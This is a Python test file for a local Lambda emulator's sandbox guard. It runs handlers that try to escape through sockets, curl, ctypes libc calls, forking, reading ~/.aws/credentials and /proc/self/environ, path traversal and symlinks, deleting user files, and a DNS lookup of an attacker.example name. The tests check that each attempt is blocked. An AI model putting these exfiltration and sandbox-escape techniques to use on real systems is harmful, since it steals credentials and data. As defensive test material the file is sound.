"""Attempts to escape from the guard, each by a handler in a process of its own, with a listener that stands for the internet.

Run as a script, this file makes the attempts: it forks one process for each, and prints what became of them as JSON.
"""

import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

# A folder of the user's that is none of those which a handler may write to, even where this checkout stands in /tmp.
OUTSIDE = (Path.home() if str(Path(__file__).resolve()).startswith("/tmp/") else Path(__file__).parent) / "lambdatest_escape"
"""A file outside of /tmp that no attempt may make."""
HTTP = "b'GET / HTTP/1.0\\r\\n\\r\\n'"

NETWORK = {
    "a client of boto3 with an endpoint of its own": """
        import boto3
        def handler(e, c): return boto3.client('s3', endpoint_url='http://storage.example.com:{port}').list_buckets()""",
    "a dual-stack endpoint": """
        import boto3
        from botocore.config import Config
        def handler(e, c): return boto3.client('dynamodb', config=Config(use_dualstack_endpoint=True)).list_tables()""",
    "a service that moto does not know, with its error swallowed": """
        import boto3
        def handler(e, c):
            try: return boto3.client('gamelift').list_fleets()
            except Exception as x: return {{'statusCode': 500, 'body': repr(x)}}""",
    "requests, with its error swallowed": """
        import requests
        def handler(e, c):
            try: return requests.get('http://{host}:{port}/x', timeout=3).text
            except Exception: return {{'statusCode': 502}}""",
    "http.client": """
        import http.client
        def handler(e, c):
            connection = http.client.HTTPConnection('{host}', {port}, timeout=3)
            connection.request('POST', '/x', b'exfil')
            return connection.getresponse().status""",
    "urllib3 to S3": """
        import urllib3
        def handler(e, c): return urllib3.PoolManager().request('GET', 'https://s3.amazonaws.com/x', retries=False, timeout=2).status""",
    "a socket": """
        import socket
        def handler(e, c):
            s = socket.socket(); s.settimeout(3); s.connect(('{host}', {port})); s.sendall({http}); return s.recv(9).decode()""",
    "a socket of _socket that was saved": """
        from _socket import socket as S
        def handler(e, c):
            s = S(2, 1); s.settimeout(3); s.connect(('{host}', {port})); s.sendall({http}); return s.recv(9).decode()""",
    "UDP": """
        import socket
        def handler(e, c): return socket.socket(2, 2).sendto(b'secret', ('{host}', {port}))""",
    "a name server": """
        import socket
        def handler(e, c):
            try: return socket.getaddrinfo('s3cr3t.attacker.example', 80)
            except OSError as x: return repr(x)""",
    "asyncio": """
        import asyncio
        async def go():
            r, w = await asyncio.wait_for(asyncio.open_connection('{host}', {port}), 3)
            w.write({http}); return (await r.read(9)).decode()
        def handler(e, c): return asyncio.run(go())""",
    "a presigned URL": """
        import boto3, urllib.request
        def handler(e, c):
            url = boto3.client('s3').generate_presigned_url('get_object', Params=dict(Bucket='b', Key='k'))
            return urllib.request.urlopen(url, timeout=3).status""",
    "a handler that switches moto off": """
        import boto3, moto.core.models as mm
        def handler(e, c):
            mm.botocore_stubber.enabled = False
            return boto3.client('dynamodb').list_tables()""",
    "a service in China that moto does not know": """
        import boto3
        def handler(e, c): return boto3.client('gamelift', region_name='cn-north-1').list_fleets()""",
    "a thread that outlives the invocation": """
        import threading, time, socket, _thread
        def go():
            lock = _thread.allocate_lock(); lock.acquire(); lock.acquire(timeout=0.2)
            socket.create_connection(('{host}', {port}), 3).sendall({http})
        def handler(e, c): threading.Thread(target=go).start(); return 'ok'""",
}
PROCESS = {
    "curl": """
        import subprocess
        def handler(e, c): return subprocess.run(['curl', '-s', '-m', '3', 'http://{host}:{port}/'], capture_output=True).returncode""",
    "os.system": """
        import os
        def handler(e, c): return os.system('curl -s -m 3 http://{host}:{port}/')""",
    "a forked child": """
        import os, socket
        REAL_EXIT = os._exit
        def handler(e, c):
            pid = os.fork()
            if pid == 0:
                socket.create_connection(('{host}', {port}), 3).sendall({http}); REAL_EXIT(0)
            return os.waitpid(pid, 0)[1]""",
    "multiprocessing that spawns": """
        import multiprocessing as mp
        def handler(e, c):
            p = mp.get_context('spawn').Process(target=print); p.start(); p.join(20); return p.exitcode""",
    "_posixsubprocess itself": """
        import _posixsubprocess, os
        def handler(e, c):
            r, w = os.pipe()
            return _posixsubprocess.fork_exec([b'/usr/bin/curl', b'http://{host}:{port}'], [b'/usr/bin/curl'], True, (w,), None, None,
                -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None)""",
    "libc through ctypes": """
        import ctypes, socket, struct
        def handler(e, c):
            l = ctypes.CDLL(None); fd = l.socket(2, 1, 0)
            sa = struct.pack('<H', 2) + struct.pack('>H', {port}) + socket.inet_aton('{host}') + bytes(8)
            return l.connect(fd, sa, 16)""",
    "libc through ctypes at import": """
        import ctypes
        CONNECT = ctypes.CDLL(None).connect
        def handler(e, c): return 1""",
    "os._exit": """
        import os
        def handler(e, c): os._exit(0)""",
    "os.abort": """
        import os
        def handler(e, c): os.abort()""",
    "a signal to the parent": """
        import os
        def handler(e, c): os.kill(os.getppid(), 0); return 'signalled'""",
}
FILE = {
    "a file of the user": """
        def handler(e, c): open({outside!r}, 'w').write('x')""",
    "a path that leads out of /tmp": """
        import os
        def handler(e, c): open('/tmp/..' + {outside!r}, 'w').write('x')""",
    "a link that leads out of /tmp": """
        import os, tempfile
        def handler(e, c):
            link = os.path.join(tempfile.mkdtemp(), 'link')
            os.symlink({outside!r}, link)
            open(link, 'w').write('x')""",
    "the handler's own code": """
        def handler(e, c): open(__file__, 'a').write('x')""",
    "removing a file of the user in /tmp": """
        import os
        def handler(e, c): os.remove('{home}/victim.txt')""",
    "removing a folder of the user in /tmp": """
        import shutil
        def handler(e, c): shutil.rmtree('{home}/victims')""",
    "overwriting a file of the user in /tmp": """
        import os, tempfile
        def handler(e, c):
            made = tempfile.mkstemp()[1]
            os.replace(made, '{home}/victim.txt')""",
    "reading credentials": """
        import os
        def handler(e, c): return open(os.path.expanduser('~/.aws/credentials')).read()""",
    "the default chain of credentials, with the environment deleted": """
        import boto3, os
        def handler(e, c):
            for k in list(os.environ):
                if k.startswith('AWS_'): del os.environ[k]
            boto3.DEFAULT_SESSION = None
            return repr(boto3.Session(region_name='us-east-1').get_credentials())""",
    "reading the environment of the process": """
        def handler(e, c): return open('/proc/self/environ').read()""",
}
OLD = """
    def handler(e, c): return [OLD.list_tables()['TableNames'], OLD._request_signer._credentials.access_key]"""
NATIVE = """
    import native, socket, struct
    def handler(e, c):
        fd = native.SOCKET(2, 1, 0)
        sa = struct.pack('<H', 2) + struct.pack('>H', {port}) + socket.inet_aton('{host}') + bytes(8)
        return native.CONNECT(fd, sa, 16)"""
ATTEMPTS = {**NETWORK, **PROCESS, **FILE}
APART = {"native": NATIVE, "old": OLD}
"""Attempts that need something to have happened before the guard was there."""


def attempt(source: str, folder: Path) -> dict[str, object]:
    """Load and invoke one handler; what the guard recorded and what the handler answered."""
    import moto  # late: a client of the attempt "older than moto" is made before

    from lambdatest.errors import HandlerError
    from lambdatest.model import Function, Location
    from lambdatest.runtime.loading import load

    (folder / "app.py").write_text(source)
    function = Function("api", "api", "app.handler", "python3.12", folder, Location("serverless.yml", 1))
    with moto.mock_aws():
        try:
            outcome = load(function, "us-east-1").invoke({}, request_id="1")
        except HandlerError as error:
            return {"recorded": [["import", str(error)]], "answer": None}
    return {"recorded": [[v.kind, v.what] for v in outcome.violations], "answer": repr(outcome.result), "raised": repr(outcome.raised)}


def main(host: str, port: int, home: str, names: list[str], isolate: bool) -> None:
    """Make each attempt in a child; print what became of it."""
    from textwrap import dedent

    from lambdatest.runtime import guard

    guard.install()
    for name in names:
        text = dedent({**ATTEMPTS, **APART}[name]).format(host=host, port=port, home=home, outside=str(OUTSIDE), http=HTTP)
        reading, writing = os.pipe()
        if os.fork() == 0:
            isolated = isolate and guard.isolate_network()
            result = {**attempt(text, Path(home, "code")), "level": guard.level(), "isolated": isolated}
            threading.Event().wait(0.4 if "outlives" in name else 0)
            os.write(writing, json.dumps(result).encode())
            os._exit(7)
        os.close(writing)
        with os.fdopen(reading) as pipe:
            text = pipe.read()
        _, status = os.wait()
        print(json.dumps({"name": name, "status": os.waitstatus_to_exitcode(status), **(json.loads(text) if text else {})}), flush=True)


class Listener:
    """What would hear of an escape: TCP and UDP on this machine's own address, or an address of nobody where it has none."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            try:
                probe.connect(("198.51.100.1", 9))
                self.host = probe.getsockname()[0]
            except OSError:
                self.host = "198.51.100.1"
        self.real = not self.host.startswith(("127.", "198.51.100."))
        self.tcp, self.udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.tcp.bind((self.host if self.real else "127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp.bind(self.tcp.getsockname())
        self.tcp.listen(50)
        for work in (self._accept, self._receive):
            threading.Thread(target=work, daemon=True).start()

    def _accept(self) -> None:
        while True:
            connection, peer = self.tcp.accept()
            self.heard.append(f"TCP {peer}")
            connection.close()

    def _receive(self) -> None:
        while True:
            self.heard.append(f"UDP {self.udp.recvfrom(100)}")


@pytest.fixture(scope="module")
def listener():
    return Listener()


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    folder = tmp_path_factory.mktemp("home")
    secret = "[default]\naws_access_key_id = AKIASECRET\naws_secret_access_key = SECRET\n"
    for path, text in {"victim.txt": "mine", "victims/a": "mine", ".aws/credentials": secret, "code/x": "", "site/x": ""}.items():
        (folder / path).parent.mkdir(exist_ok=True)
        (folder / path).write_text(text)
    (folder / "site/native.py").write_text("import ctypes\nL = ctypes.CDLL(None)\nSOCKET, CONNECT = L.socket, L.connect\n")
    return folder


def run(listener, home, names, before="", isolate=False):
    """What became of the attempts, by name, in one fresh interpreter."""
    code = f"{before}\nimport sys, runpy; main = runpy.run_path({__file__!r})['main']"
    code += f"\nmain({listener.host!r}, {listener.port}, {str(home)!r}, {list(names)!r}, {isolate})"
    environment = {**os.environ, "HOME": str(home), "AWS_ACCESS_KEY_ID": "AKIAREALREALREALREAL", "AWS_SECRET_ACCESS_KEY": "real"}
    paths = [str(home / "site"), *filter(None, sys.path)]
    environment["PYTHONPATH"] = os.pathsep.join(paths)
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, env=environment, check=False)
    assert done.returncode == 0, done.stderr
    return {found["name"]: found for found in map(json.loads, done.stdout.splitlines())}


@pytest.fixture(scope="module")
def attempts(listener, home):
    OUTSIDE.unlink(missing_ok=True)
    return run(listener, home, ATTEMPTS)


@pytest.mark.parametrize("name", ATTEMPTS)
def test_an_attempt_is_blocked_and_recorded(attempts, name):
    found = attempts[name]
    assert found["status"] == 7, found
    # coverage saves what it measured when a process ends with os._exit
    kinds = {kind for kind, what in found["recorded"] if "/.coverage" not in what}
    expected = {"network", "aws", "thread", "import"} if name in NETWORK else {"process", "import"} if name in PROCESS else {"file"}
    assert kinds and kinds <= expected, found
    assert found["raised" if found["answer"] else "answer"] is None or "SECRET" not in found["answer"]


def test_no_attempt_does_any_harm(attempts, listener, home):
    assert attempts.keys() == ATTEMPTS.keys()
    assert listener.heard == []
    assert not OUTSIDE.exists()
    assert (home / "victim.txt").read_text() == (home / "victims/a").read_text() == "mine"


def test_credentials_from_before_the_invocation_are_not_found(attempts):
    assert "AKIA" not in str(attempts["the default chain of credentials, with the environment deleted"])


def test_an_aws_call_that_cannot_be_mocked_is_told_from_other_network_access(attempts):
    def kinds(name):
        return {kind for kind, _ in attempts[name]["recorded"]}

    assert kinds("a service that moto does not know, with its error swallowed") == {"aws"}
    assert kinds("a handler that switches moto off") == {"aws"}
    assert kinds("requests, with its error swallowed") == {"network"}


def test_a_client_that_is_older_than_moto_answers_from_the_mock(listener, home):
    found = run(listener, home, ["old"], "import boto3, builtins; builtins.OLD = boto3.client('dynamodb', region_name='us-east-1')")
    assert found["old"]["answer"] == "[[], 'testing']"


def test_c_code_that_holds_libc_functions_is_stopped_by_the_network_namespace_alone(listener, home):
    found = run(listener, home, ["native"], "import native", isolate=True)["native"]
    if not found["isolated"]:
        pytest.skip("this machine allows no network namespace")
    assert "namespace" in found["level"]
    assert found["answer"] == "-1"
    assert listener.heard == []
